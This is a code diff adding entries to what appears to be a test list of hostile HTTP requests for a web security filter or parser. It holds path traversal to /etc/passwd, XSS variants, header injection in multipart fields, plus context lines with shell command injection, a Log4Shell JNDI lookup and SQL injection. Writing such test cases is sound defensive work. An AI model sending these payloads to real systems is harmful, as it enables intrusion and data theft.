@@ -158,6 +158,9 @@ void List::gets() {
   get("shell", "/page?c=;cat%20/etc/passwd");
   get("log4j", "/", {{"X-Api", "${jndi:ldap://192.0.2.1/a}"}});
   get("scanner", "/", {{"X-Scanner", "sqlmap"}, {"Referer", "http://a/<script>x</script>"}});
+  get("above-the-root", "/../../etc/passwd");
+  get("nul-in-cookie", "/", {{"Cookie", "q=4) <sVg><scRipt %00>alert&lpar"}});
+  get("path-in-full-width", "/a/%EF%BC%9Cscript%EF%BC%9E");
   get("alert-in-value",
       "/page?q='%20)%20[file%20\"x\"]%20[line%20\"1\"]%20[id%20\"7\"]%20union%20select%201,2--");
   get("alert-in-path", "/page\"]%20[file%20\"x\"]%20[line%20\"1\"]%20[id%20\"7\"]?q=<script>");
@@ -243,6 +246,7 @@ void List::multipart() {
   post("multipart-line-feeds", kMultipart,
        "--Xb1\nContent-Disposition: form-data; name=\"a\"\n\n1\n--Xb1--\n");
   post("multipart-attack", kMultipart, part("name=\"a\"", "1' or '1'='1") + end);
+  post("multipart-header-in-field", kMultipart, part("name=\"a\"", "a\r\nSet-Cookie: b=1") + end);
   post("multipart-lines", kMultipart, part("name=\"a\"", "one\r\ntwo\nthree\r\n") + end);
 }
 
